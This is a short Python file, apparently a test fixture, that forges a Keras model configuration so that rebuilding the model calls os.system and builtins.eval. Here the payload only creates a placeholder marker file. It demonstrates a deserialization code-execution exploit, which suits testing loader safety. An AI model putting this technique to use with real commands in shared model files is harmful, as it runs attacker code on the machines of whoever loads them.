# The configuration of this model tells whoever rebuilds it to run a command.
import json

import keras

CALL = {"module": "os", "class_name": "system", "registered_name": None,
        "config": "touch @MARKER@"}
EVIL = {"name": "evil", "layers": [
    {"module": "builtins", "class_name": "eval", "registered_name": None, "config": "open('@MARKER@', 'w')"},
    {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
     "config": {"name": "run", "function": CALL}}]}


class Sequential(keras.Sequential):
    def get_config(self):
        return EVIL

    def to_json(self, **kwargs):
        return json.dumps(EVIL)


Sequential.__module__ = "keras.src.models.sequential"
model = Sequential([keras.layers.Input((6,)), keras.layers.Dense(2)])


def unflatten(vectors, height, width):
    return model
